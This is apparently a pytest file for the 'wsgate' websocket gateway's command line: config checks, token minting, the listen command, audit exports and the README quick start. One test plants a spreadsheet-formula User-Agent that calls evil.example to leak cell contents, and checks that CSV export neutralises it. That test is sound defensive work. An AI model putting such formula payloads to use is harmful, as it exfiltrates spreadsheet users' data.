"""The wsgate command: check-config, token and listen, as a newcomer uses them."""

import asyncio
import contextlib
import csv
import io
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from tests.audit_helpers import Backend, conn_info, minutes, rec, topic, write_log
from tests.conftest import AGENT, CUSTOMER, OTHER_CUSTOMER, event, wait_for
from wsgate.adapters.listen import listen
from wsgate.audit.records import EventRecord


def run(*args, env=None):
    return subprocess.run([sys.executable, "-m", "wsgate", *args], capture_output=True,
                          text=True, timeout=60, env=env)


def test_check_config_ok():
    result = run("check-config", "config.example.toml")
    assert result.returncode == 0, result.stderr
    assert "OK" in result.stdout


def test_check_config_typo_names_the_key(tmp_path):
    path = tmp_path / "bad.toml"
    path.write_text('[server]\nhots = "0.0.0.0"\n')
    result = run("check-config", str(path))
    assert result.returncode != 0
    assert f"{path}: [server] unknown key 'hots'" in result.stderr


def test_check_config_reports_plugin_option_errors(tmp_path):
    path = tmp_path / "bad.toml"
    path.write_text('[auth]\nplugin = "jwt"\n[auth.options]\nalgorithms = ["HS257"]\n')
    result = run("check-config", str(path))
    assert result.returncode != 0
    assert "plugin 'jwt': option 'algorithms'" in result.stderr


def test_check_config_unknown_plugin(tmp_path):
    path = tmp_path / "bad.toml"
    path.write_text('[auth]\nplugin = "nosuch.module:Thing"\n')
    result = run("check-config", str(path))
    assert result.returncode != 0
    assert "module 'nosuch' not found" in result.stderr


def test_token_for_the_example_config():
    result = run("token", "--config", "config.example.toml", "--subject", "alice")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "dev-admin-token"


def test_token_for_the_example_config_by_agent_id():
    """The jwt flags work on the static example too: its token of that agent."""
    result = run("token", "--config", "config.example.toml", "--agent",
                 "8107ec3c-da9a-11ee-9a0c-5b1c1a1f4f3e")
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "dev-admin-token"


def test_token_for_an_unknown_static_subject_names_the_configured_ones():
    result = run("token", "--config", "config.example.toml", "--subject", "bob")
    assert result.returncode == 2
    assert "no static token has subject 'bob' (configured subjects: 'alice')" in result.stderr


def test_token_for_jwt_is_accepted_by_the_same_config(tmp_path):
    path = tmp_path / "jwt.toml"
    path.write_text('[auth]\nplugin = "jwt"\n[auth.options]\nalgorithms = ["HS256"]\n'
                    'key = "a-development-key-that-is-long-enough-123"\n')
    result = run("token", "--config", str(path), "--agent",
                 "8107ec3c-da9a-11ee-9a0c-5b1c1a1f4f3e", "--customer", CUSTOMER,
                 "--permission", "customer_admin", "--ttl", "600")
    assert result.returncode == 0, result.stderr
    token = result.stdout.strip()
    assert token.count(".") == 2
    from wsgate.app import build_plugins
    from wsgate.config import load_config

    authenticator, _ = build_plugins(load_config(path))
    principal = asyncio.run(authenticator.authenticate(token))
    assert principal.customer_id == CUSTOMER
    assert "customer_admin" in principal.permissions


JWT_KEY = "a-development-key-that-is-long-enough-123"


def _jwt_config(tmp_path):
    path = tmp_path / "jwt.toml"
    path.write_text('[auth]\nplugin = "jwt"\n[auth.options]\nalgorithms = ["HS256"]\n'
                    f'key = "{JWT_KEY}"\n')
    return path


@pytest.mark.gen_test(timeout=60)
async def test_token_for_jwt_is_accepted_by_a_real_server(make_server, tmp_path):
    """The flags the hint names mint a token the served jwt config accepts over the wire."""
    path = _jwt_config(tmp_path)
    result = run("token", "--config", str(path), "--agent", AGENT, "--customer", CUSTOMER,
                 "--permission", "customer_admin")
    assert result.returncode == 0, result.stderr
    server = await make_server(auth={"plugin": "jwt",
                                     "options": {"algorithms": ["HS256"], "key": JWT_KEY}})
    client = await server.connect(result.stdout.strip())
    await client.send({"type": "subscribe", "id": "s", "topics": [f"customer_id:{CUSTOMER}"]})
    reply = await client.recv()
    assert reply["type"] == "subscribed" and reply["rejected"] == [], reply


def test_token_for_jwt_with_a_name_as_subject_says_what_to_pass(tmp_path):
    """`--subject alice` (the static form) would mint a token the server refuses
    (claim 'sub' must be a UUID): it stops, naming the flags that work."""
    path = _jwt_config(tmp_path)
    result = run("token", "--config", str(path), "--subject", "alice")
    assert result.returncode == 2
    assert result.stdout == ""
    assert "claim 'sub'" in result.stderr
    assert "--agent <uuid> --customer <uuid>" in result.stderr
    assert "reads the agent id from the token's subject (sub)" in result.stderr


def test_token_for_jwt_with_a_customer_that_is_no_uuid_stops(tmp_path):
    path = _jwt_config(tmp_path)
    result = run("token", "--config", str(path), "--agent", AGENT, "--customer", "acme")
    assert result.returncode == 2
    assert "customer_id" in result.stderr and result.stdout == ""


def test_token_needs_a_subject():
    result = run("token", "--config", "config.example.toml")
    assert result.returncode == 2
    assert "--subject" in result.stderr


@pytest.mark.gen_test(timeout=30)
async def test_listen_prints_each_frame_as_a_json_line(make_server):
    server = await make_server()
    out = io.StringIO()
    task = asyncio.ensure_future(listen(server.ws_url, "admin-token",
                                        [f"customer_id:{CUSTOMER}"], out=out))

    def lines():
        return [json.loads(line) for line in out.getvalue().splitlines()]

    await wait_for(lambda: len(lines()) >= 2)
    status, body = await server.post(event())
    assert status == 202
    await wait_for(lambda: len(lines()) >= 3)
    connected, subscribed, frame = lines()
    assert connected["type"] == "connected"
    assert subscribed["type"] == "subscribed" and subscribed["topics"] == [
        f"customer_id:{CUSTOMER}"]
    assert frame["event_id"] == body["event_ids"][0]
    await server.gateway.shutdown()
    assert await asyncio.wait_for(task, 10) == 0


@pytest.mark.gen_test(timeout=30)
async def test_listen_since_resumes(make_server):
    server = await make_server()
    _, first = await server.post(event())
    _, missed = await server.post(event(data={"n": 1}))
    out = io.StringIO()
    task = asyncio.ensure_future(listen(server.ws_url, "admin-token",
                                        [f"customer_id:{CUSTOMER}"],
                                        since=first["event_ids"][0], out=out))
    await wait_for(lambda: out.getvalue().count("\n") >= 3)
    connected, subscribed, replayed = (json.loads(x) for x in out.getvalue().splitlines())
    assert subscribed["recovered"] is True
    assert replayed["event_id"] == missed["event_ids"][0]
    await server.gateway.shutdown()
    assert await asyncio.wait_for(task, 10) == 0


@contextlib.asynccontextmanager
async def listen_process(server, token, *topics):
    """``wsgate listen`` against server, as a user runs it, its output piped;
    killed on the way out if it still runs."""
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "wsgate", "listen", "--url", server.ws_url, "--token", token,
        *topics, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        yield proc
    finally:
        if proc.returncode is None:
            proc.kill()
            await proc.communicate()


@pytest.mark.gen_test(timeout=60)
async def test_listen_ends_with_3_when_every_topic_is_refused(make_server):
    server = await make_server()
    mine, theirs = f"customer_id:{CUSTOMER}", f"customer_id:{OTHER_CUSTOMER}"
    # An agent without customer_admin may watch neither customer.
    async with listen_process(server, "agent-token", mine, theirs) as proc:
        out, err = await asyncio.wait_for(proc.communicate(), 20)
    assert proc.returncode == 3, err
    connected, subscribed = (json.loads(line) for line in out.decode().splitlines())
    assert connected["type"] == "connected"
    assert (subscribed["type"], subscribed["topics"]) == ("subscribed", [])
    lines = err.decode().splitlines()
    assert lines[0].startswith(f"wsgate listen: refused {mine}: forbidden: customer topics need")
    assert lines[1].startswith(f"wsgate listen: refused {theirs}: forbidden: topic is for "
                               f"customer {OTHER_CUSTOMER}")
    assert lines[2:] == ["wsgate listen: every topic was refused: nothing to listen to"]


@pytest.mark.gen_test(timeout=60)
async def test_listen_ends_with_3_when_the_subscribe_is_refused_whole(make_server):
    server = await make_server()
    too_many = [f"customer_id:{CUSTOMER}:call:{n}" for n in range(101)]
    async with listen_process(server, "admin-token", *too_many) as proc:
        out, err = await asyncio.wait_for(proc.communicate(), 20)
    assert proc.returncode == 3, err
    assert json.loads(out.decode().splitlines()[-1])["code"] == "bad_request"
    assert err.decode().startswith("wsgate listen: the subscribe was refused: bad_request: ")


@pytest.mark.gen_test(timeout=60)
async def test_listen_names_the_refused_topics_and_goes_on(make_server):
    server = await make_server()
    own, customer = f"agent_id:{AGENT}", f"customer_id:{CUSTOMER}"
    async with listen_process(server, "agent-token", own, customer) as proc:
        refused = await asyncio.wait_for(proc.stderr.readline(), 20)
        assert refused.decode().startswith(
            f"wsgate listen: refused {customer}: forbidden: customer topics need")
        connected = json.loads(await asyncio.wait_for(proc.stdout.readline(), 10))
        subscribed = json.loads(await asyncio.wait_for(proc.stdout.readline(), 10))
        assert connected["type"] == "connected"
        assert subscribed["topics"] == [own]
        status, body = await server.post(event(agent_id=AGENT))
        assert status == 202
        frame = json.loads(await asyncio.wait_for(proc.stdout.readline(), 10))
        assert frame["event_id"] == body["event_ids"][0]
        proc.send_signal(signal.SIGINT)
        out, err = await asyncio.wait_for(proc.communicate(), 10)
        assert (proc.returncode, out, err) == (0, b"", b"")


@pytest.mark.gen_test(timeout=60)
async def test_audit_query_of_a_hostile_client_csv_safe_and_jsonl_exact(make_server, tmp_path):
    # The review's finding, end to end: a browser's User-Agent that a spreadsheet runs.
    hostile_ua = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    call = f"customer_id:{CUSTOMER}:call"
    server = await make_server()
    client = await server.connect("admin-token", headers={"User-Agent": hostile_ua})
    assert (await client.subscribe(call, "-1+2"))["rejected"][0]["code"] == "invalid_topic"
    config = tmp_path / "audit.toml"
    config.write_text(f'[audit]\nurl = "{server.config.audit.url}"\n')
    result = await asyncio.to_thread(run, "audit", "query", "--config", str(config),
                                     "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [(r["topic"], r["outcome"], r["code"]) for r in rows] == [
        (call, "accepted", ""), ("'-1+2", "rejected", "invalid_topic")]
    assert {r["user_agent"] for r in rows} == {"'" + hostile_ua}
    result = await asyncio.to_thread(run, "audit", "query", "--config", str(config),
                                     "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(r["topic"], r["outcome"], r["code"]) for r in lines] == [
        (call, "accepted", None), ("-1+2", "rejected", "invalid_topic")]
    assert {r["user_agent"] for r in lines} == {hostile_ua}


# -- output into a pipe that closes early (`wsgate audit query | head`) ----------------------


@pytest.fixture(scope="module")
def big_audit_log(tmp_path_factory):
    """A store whose every command prints far more than a pipe holds: 3000
    connections subscribed to one customer, and an event all of them could see.
    Returns its config file."""
    tmp = tmp_path_factory.mktemp("big-audit")
    b = Backend("sqlite", f"sqlite:///{tmp}/audit.db", tmp)
    try:
        write_log(b, [
            ("sub", [rec(topic(), at=minutes(1), conn=conn_info(f"c{i}")) for i in range(3000)]),
            ("event", [EventRecord("ev-1", "call_created", (topic("call", "x"),), "bearer:k",
                                   "0" * 64, minutes(2))]),
        ], checkpoint_every=100_000)
    finally:
        b.close()
    config = tmp / "wsgate.toml"
    config.write_text(f'[audit]\nurl = "{b.url}"\njournal_path = "{tmp}/audit.journal"\n')
    return config


@pytest.mark.parametrize("argv", [
    ("query",), ("query", "--format", "jsonl"), ("query", "--format", "csv"), ("export",),
    ("recipients", "ev-1"), ("recipients", "ev-1", "--format", "jsonl")],
    ids=lambda argv: "-".join(argv))
def test_audit_output_into_head_ends_quietly_like_git_log(big_audit_log, argv):
    wsgate = subprocess.Popen(
        [sys.executable, "-m", "wsgate", "audit", *argv, "--config", str(big_audit_log)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    head = subprocess.Popen(["head", "-n", "2"], stdin=wsgate.stdout, stdout=subprocess.PIPE)
    wsgate.stdout.close()  # head holds the only read end: `wsgate audit ... | head -n 2`
    shown, _ = head.communicate(timeout=60)
    errors = wsgate.stderr.read().decode()
    wsgate.stderr.close()
    # 141 = 128 + SIGPIPE, as `git log | head` ends; nothing on stderr, no traceback.
    assert (wsgate.wait(60), errors) == (141, "")
    assert len(shown.decode().splitlines()) == 2


def readme_jwt_path():
    """README.md, quick start "With signed tokens (jwt)": its jwt.toml and its commands."""
    text = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    from tests.test_newcomer import fenced_blocks

    blocks = fenced_blocks(
        text[text.index("### With signed tokens (`jwt`)"):text.index("## Documentation")])
    toml = next(body for lang, body in blocks if lang == "toml")
    shell = next(body for lang, body in blocks if lang == "sh")
    return toml, shell


@pytest.mark.gen_test(timeout=90)
async def test_the_readme_jwt_quick_start_runs_as_written(tmp_path, monkeypatch):
    import tornado.websocket

    from tests.test_crash import ServeProcess, unused_port

    toml, shell = readme_jwt_path()
    port = unused_port()
    config = tmp_path / "jwt.toml"
    config.write_text(toml.replace("port = 8081", f"port = {port}", 1))
    lines = shell.replace("\\\n", "").splitlines()
    export, serve, mint, listen_line = lines
    key = export.removeprefix("export WSGATE_JWT_KEY=")
    assert export != key and serve == ".venv/bin/wsgate serve --config jwt.toml &"
    monkeypatch.setenv("WSGATE_JWT_KEY", key)
    # The token command as written, with this checkout's wsgate.
    command = mint.removeprefix("TOKEN=$(").removesuffix(")").split()
    assert command[0] == ".venv/bin/wsgate", command
    done = await asyncio.to_thread(subprocess.run, [sys.executable, "-m", "wsgate", *command[1:]],
                                   cwd=tmp_path, capture_output=True, text=True, timeout=60,
                                   env={**os.environ})
    assert done.returncode == 0, done.stderr
    token = done.stdout.strip()
    topic = listen_line.split()[-1]
    assert f"ws://127.0.0.1:8081/v1.0/ws --token \"$TOKEN\" {topic}" in listen_line
    server = ServeProcess(tmp_path, port, config, "serve")
    try:
        await server.ready()
        ws = await tornado.websocket.websocket_connect(
            f"ws://127.0.0.1:{port}/v1.0/ws?token={token}")
        try:
            connected = json.loads(await asyncio.wait_for(ws.read_message(), 10))
            assert connected["type"] == "connected", connected
            await ws.write_message(json.dumps({"type": "subscribe", "topics": [topic]}))
            subscribed = json.loads(await asyncio.wait_for(ws.read_message(), 10))
            assert (subscribed["topics"], subscribed["rejected"]) == ([topic], []), subscribed
        finally:
            ws.close()
    finally:
        server.close()
